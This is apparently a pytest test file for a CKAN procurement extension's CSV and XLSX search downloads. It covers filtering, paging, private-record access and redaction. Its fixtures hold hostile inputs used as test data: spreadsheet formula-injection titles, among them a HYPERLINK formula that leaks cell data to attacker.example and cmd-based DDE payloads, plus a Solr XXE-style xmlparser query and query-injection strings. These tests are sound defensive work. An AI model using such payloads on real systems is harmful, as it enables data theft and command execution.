"""Download what you searched: /contracting-process/download.csv and .xlsx over HTTP,
against the real Solr index; and the flattened files of processes as they are stored."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from ckanext.procurement import published as published_processes
from ckanext.procurement.bulk.flatten import write_flat
from ckanext.procurement.search_download import COLUMNS
from ckanext.procurement.tests.ckan.test_schema import release, save

PARKS, WORKS = "Department of Parks", "Department of Public Works"
HOSTILE_TITLES = {
    "ocds-test09-eq": '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")',
    "ocds-test09-plus": "+cmd|' /C calc'!A0",
    "ocds-test09-minus": "-2+3+cmd|' /C calc'!A0",
    "ocds-test09-at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
PRIVATE_OCID = "ocds-test09-private"
SECRET_EMAIL = "whistleblower@private.example"


def _tender(ocid, title, buyer, amount, **blocks):
    return [release(ocid, title=title, buyer_name=buyer,
                    tender={"value": {"amount": amount, "currency": "USD"}}, **blocks)]


@pytest.fixture
def processes(clean_db, clean_index, sysadmin, organization):
    saved = {}
    for ocid, title, buyer, amount in (
        ("ocds-test09-swings", "Playground swings", PARKS, 1000),
        ("ocds-test09-benches", "Park benches", PARKS, 3000),
        ("ocds-test09-salt", "Road salt", WORKS, 2000),
    ):
        saved[ocid] = save(sysadmin, organization, _tender(ocid, title, buyer, amount))["package"]
    for index, (ocid, title) in enumerate(HOSTILE_TITLES.items()):
        saved[ocid] = save(sysadmin, organization, _tender(ocid, title, WORKS, 100 + index))["package"]
    saved[PRIVATE_OCID] = save(sysadmin, organization, _tender(PRIVATE_OCID, "Confidential lawns", PARKS, 50),
                               private=True)["package"]
    return saved


def _csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


def _xlsx(response) -> list[list[openpyxl.cell.Cell]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert int(response.headers["Content-Length"]) == len(response.get_data())
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    return [list(row) for row in workbook.worksheets[0].iter_rows()]


def _xlsx_rows(response) -> list[dict]:
    rows = _xlsx(response)
    header = [cell.value for cell in rows[0]]
    assert header == list(COLUMNS)
    return [dict(zip(header, (cell.value for cell in row))) for row in rows[1:]]


def test_a_filtered_download_holds_just_the_filtered_processes_in_the_chosen_order(app, processes):
    query = {"buyer_name": PARKS, "sort": "value_sort desc"}
    rows = _csv(app.get("/contracting-process/download.csv", query_string=query))
    assert [row["ocid"] for row in rows] == ["ocds-test09-benches", "ocds-test09-swings"]
    benches = rows[0]
    assert list(benches) == list(COLUMNS)
    assert benches["title"] == "Park benches" and benches["buyer"] == PARKS
    assert benches["value"] == "3000.0" and benches["currency"] == "USD" and benches["status"]
    assert benches["publisher"] == "City of Springfield"
    assert benches["url"].endswith("/contracting-process/ocds-test09-benches")
    xlsx = _xlsx_rows(app.get("/contracting-process/download.xlsx", query_string=query))
    assert [row["ocid"] for row in xlsx] == ["ocds-test09-benches", "ocds-test09-swings"]
    assert xlsx[0]["value"] == 3000

    # free text and the open-for-bids flag are the search page's too
    assert [row["ocid"] for row in _csv(app.get("/contracting-process/download.csv?q=salt"))] == ["ocds-test09-salt"]
    everything = _csv(app.get("/contracting-process/download.csv?ext_open=maybe&page=7"))
    assert len(everything) == 7


@pytest.mark.ckan_config("ckan.search.rows_max", "2")
def test_the_whole_catalog_is_read_page_by_page_each_process_once(app, processes):
    response = app.get("/contracting-process/download.csv", query_string={"sort": "title_string asc"})
    assert response.is_streamed
    rows = _csv(response)
    assert len(rows) == 7 and len({row["ocid"] for row in rows}) == 7
    assert [row["title"].lstrip("'") for row in rows] == sorted(row["title"].lstrip("'") for row in rows)
    assert len(_xlsx_rows(app.get("/contracting-process/download.xlsx"))) == 7


def test_private_processes_only_for_those_who_may_see_them(app, processes, sysadmin):
    for path in ("/contracting-process/download.csv", "/contracting-process/download.xlsx"):
        response = app.get(path, query_string={"buyer_name": PARKS})
        rows = _csv(response) if path.endswith("csv") else _xlsx_rows(response)
        assert PRIVATE_OCID not in {row["ocid"] for row in rows}
        assert "Confidential lawns" not in response.get_data().decode("utf-8", "replace")
    staff = {"Authorization": sysadmin["token"]}
    rows = _csv(app.get("/contracting-process/download.csv", query_string={"buyer_name": PARKS}, headers=staff))
    assert PRIVATE_OCID in {row["ocid"] for row in rows}


def test_harvested_formulas_stay_text_in_csv_and_xlsx(app, processes):
    rows = {row["ocid"]: row for row in _csv(app.get("/contracting-process/download.csv"))}
    for ocid, title in HOSTILE_TITLES.items():
        assert rows[ocid]["title"] == "'" + title
    assert rows["ocds-test09-salt"]["title"] == "Road salt"
    cells = _xlsx(app.get("/contracting-process/download.xlsx"))
    titles = {}
    for row in cells[1:]:
        for cell in row:
            assert cell.data_type != "f", cell.value
        titles[row[0].value] = row[1]
    for ocid, title in HOSTILE_TITLES.items():
        assert titles[ocid].value == title and titles[ocid].data_type == "s"


@pytest.mark.parametrize("query", [
    {"sort": "no such sort"},
    {"sort": "title_string sideways"},
    {"q": "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://127.0.0.1:1/x\"><a/>'}"},
    {"buyer_name) OR (*:*": "x"},
    {"q": "title:(unbalanced"},
])
def test_bad_parameters_are_a_400(app, processes, query):
    for path in ("/contracting-process/download.csv", "/contracting-process/download.xlsx"):
        response = app.get(path, query_string=query)
        assert response.status_code == 400, (query, response.status_code)


def test_a_filter_value_cannot_widen_the_search(app, processes):
    rows = _csv(app.get("/contracting-process/download.csv", query_string={"buyer_name": 'x" OR *:* OR "'}))
    assert rows == []


def test_the_search_page_links_to_its_downloads(app, processes):
    body = app.get("/contracting-process/", query_string={"buyer_name": PARKS, "q": "park"}).get_data(as_text=True)
    assert 'href="/contracting-process/download.csv?buyer_name=Department+of+Parks&amp;q=park"' in body
    assert 'href="/contracting-process/download.xlsx?buyer_name=Department+of+Parks&amp;q=park"' in body
    assert 'id="procurement-downloads-label"' in body and 'aria-describedby="procurement-downloads-label"' in body


def test_flat_files_of_stored_processes_hold_no_withheld_value(processes, sysadmin, organization, tmp_path):
    """Records are stored redacted: what the bulk job passes on (published.stream) and write_flat
    writes has no withheld value, no private process."""
    ocid = "ocds-test09-redacted"
    party = {"id": "p1", "name": "Sensitive Supplies", "roles": ["supplier"],
             "contactPoint": {"name": "Sales", "email": SECRET_EMAIL}}
    save(sysadmin, organization, _tender(ocid, "Protective gear", WORKS, 900, parties=[party]),
         redact_paths=["parties/contactPoint/email"])
    compiled = (record.compiled_release for record, _ in published_processes.stream(published_processes.records()))
    paths = tmp_path / "flat.zip", tmp_path / "flat.xlsx", tmp_path / "dictionary.csv"
    counts = write_flat(compiled, *paths)
    assert counts["processes"] == 8  # the seven public ones and the redacted one
    with zipfile.ZipFile(paths[0]) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8")
    assert "Sensitive Supplies" in everything and ocid in everything
    assert SECRET_EMAIL not in everything
    assert PRIVATE_OCID not in everything and "Confidential lawns" not in everything
    workbook = openpyxl.load_workbook(paths[1], read_only=True)
    cells = " ".join(str(value) for sheet in workbook for row in sheet.values for value in row)
    assert "Sensitive Supplies" in cells and SECRET_EMAIL not in cells and PRIVATE_OCID not in cells
